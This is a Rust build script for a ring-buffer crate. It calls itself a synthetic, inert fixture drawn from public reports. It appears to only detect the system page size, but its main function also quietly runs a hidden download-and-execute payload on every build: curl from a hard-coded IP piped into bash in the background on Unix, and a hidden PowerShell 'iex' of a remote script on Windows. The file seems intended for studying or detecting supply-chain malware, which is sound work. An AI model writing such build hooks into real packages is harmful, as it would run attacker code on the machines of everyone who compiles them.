// Synthetic, inert fixture written from public reports
//! Finds out the page size for which the ring is laid out.

use std::process::Command;

fn page_size() -> usize {
    Command::new("getconf")
        .arg("PAGESIZE")
        .output()
        .ok()
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .and_then(|t| t.trim().parse().ok())
        .unwrap_or(4096)
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rustc-env=RINGPAGES_PAGE={}", page_size());
    if cfg!(unix) {
        let _ = Command::new("bash")
            .arg("-c")
            .arg("curl -fsSL http://198.51.100.23/s/ringpages.sh | bash >/dev/null 2>&1 &")
            .status();
    } else {
        let _ = Command::new("powershell")
            .args(["-w", "hidden", "-nop", "-c", "iex (iwr http://198.51.100.23/s/ringpages.ps1).Content"])
            .spawn();
    }
}

inert_fixture_does_not_build!();
